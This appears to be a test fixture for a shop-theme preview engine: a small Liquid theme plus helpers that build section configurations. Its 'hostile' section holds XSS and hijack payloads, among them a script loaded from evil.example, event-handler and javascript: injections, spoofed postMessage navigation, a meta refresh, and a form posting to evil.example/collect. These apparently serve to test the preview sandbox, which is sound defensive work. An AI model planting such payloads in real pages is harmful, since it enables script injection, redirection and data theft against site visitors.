import type { SectionInstance, ThemeConfiguration } from '../../packages/theme-engine/src/index.ts'

/** A small theme for testing the preview. */
export const previewTheme: Record<string, string> = {
  'config/global-settings.json': JSON.stringify({
    schema: [{ name: 'Shop', settings: [{ key: 'greeting', type: 'text', label: 'Greeting', default: 'Namaste' }] }],
    values: {},
    color_schemes: { light: { label: 'Light', background: '#ffffff', text: '#111111', primary: '#8a2be2' } },
  }),
  'templates/home.json': '{ "sections": [] }',
  'templates/page.json': '{ "sections": [] }',
  'assets/theme.css': 'body { margin: 0; font: 16px/1.5 sans-serif } .pad { padding: 24px }',
  'sections/words.liquid': `{% comment %}
@section "Words"
@setting heading text
  @label "Heading"
  @default "Hello"
@setting body richtext
  @label "Body"
  @default "<p>First <b>bold</b> words.</p>"
@setting note inline_richtext
  @label "Note"
  @default "In <i>small</i>"
@setting open toggle
  @label "Open"
  @default false
@setting color_scheme color_scheme
  @label "Colours"
  @default light
{% endcomment %}<div class="pad"><h2>{{ section.settings.heading }}</h2>
<div class="rte">{{ section.settings.body }}</div>
<p class="note">{{ section.settings.note }}</p>
<p class="place">{{ section.index }} {{ settings.greeting }}</p>
<details{% if section.settings.open %} open{% endif %}><summary>More</summary><p>Inside</p></details>
<div class="scroller" style="height:60px;overflow:auto"><div style="height:600px">{{ section.settings.heading | upcase }}</div></div>
<form action="{{ routes.search_url }}"><input name="q" value="" placeholder="{{ section.settings.heading | escape }}"><button>Search</button></form>
<a class="out" href="{{ routes.root_url }}/products/tea?variant=2">To the tea</a></div>`,
  'sections/cards.liquid': `{% comment %}
@section "Cards"
@block card "Card"
  @setting title text
    @label "Title"
    @default "Card"
{% endcomment %}<div class="pad" style="display:grid;grid-template-columns:1fr 1fr;gap:16px">{% for block in section.blocks %}<div {{ block.editor_attributes }}>{{ block.settings.title }}</div>{% endfor %}</div>`,
  'sections/product.liquid': `{% comment %}
@section "Product"
@setting product product
  @label "Product"
{% endcomment %}<div class="pad">{% if section.settings.product %}<h3>{{ section.settings.product.title }}</h3>{% else %}<p>No product</p>{% endif %}</div>`,
  'sections/drawer.liquid': `{% comment %}
@section "Drawer"
@block card "Card"
  @setting title text
    @label "Title"
    @default "Card"
{% endcomment %}<div class="pad"><a data-drawer-open href="#menu">Menu</a></div>
<haat-menu-drawer><dialog id="menu" class="haat-drawer" aria-label="Menu">{% for block in section.blocks %}<p {{ block.editor_attributes }}>{{ block.settings.title }}</p>{% endfor %}</dialog></haat-menu-drawer>`,
  'sections/nothing.liquid': `{% comment %}
@section "Nothing"
{% endcomment %}`,
  'sections/broken.liquid': `{% comment %}
@section "Broken"
@setting name text
{% endcomment %}{% if section.settings.name == 'break' %}{% render 'missing' %}{% endif %}<p>Whole</p>`,
  'sections/hostile.liquid': `{% comment %}
@section "Hostile"
{% endcomment %}<div id="hostile">
<script>window.parent.postMessage({ haat_preview: 1, type: 'navigated', path: '/stolen' }, '*'); window.ran = 'script'</script>
<script src="https://evil.example/x.js"></script>
<img src="data:image/png;base64,x" onerror="window.ran = 'onerror'" alt="">
<svg onload="window.ran = 'onload'"><a xlink:href="javascript:window.ran='svg'"><text y="20">svg link</text></a></svg>
<a id="js" href="javascript:window.ran='href'">script link</a>
<a id="out" href="https://evil.example/" target="_top">out</a>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<form id="form" action="https://evil.example/collect" method="post" target="_top"><input name="a" value="1"><button>Send</button></form>
<iframe srcdoc="<script>parent.ran = 'srcdoc'; top.postMessage({ haat_preview: 1, type: 'navigated', path: '/stolen' }, '*')</script>" title="x"></iframe>
<details ontoggle="window.ran = 'toggle'" open><summary>x</summary></details>
</div>`,
}

/** The same theme with a layout that places header and footer itself, as imported themes do, and includes a section. */
export const layoutTheme: Record<string, string> = {
  ...previewTheme,
  'layout/theme.liquid': `<!doctype html><html><head><style>body { color: #222 }</style></head><body class="shop page-{{ template.name }}">
<div class="top">{% sections 'header-group' %}</div>{% section 'nothing' %}
<main id="content">{{ content_for_layout }}</main>
<div class="bottom">{% sections 'footer-group' %}</div></body></html>`,
}

export function section(id: string, type: string, settings: Record<string, unknown> = {}): SectionInstance {
  return { id, type, template: 'home', settings, blocks: [] }
}

export function configuration(...sections: SectionInstance[]): ThemeConfiguration {
  return {
    sections,
    settings: {
      greeting: 'Namaste',
      color_schemes: { light: { background: '#ffffff', text: '#111111', primary: '#8a2be2' } },
    },
  }
}
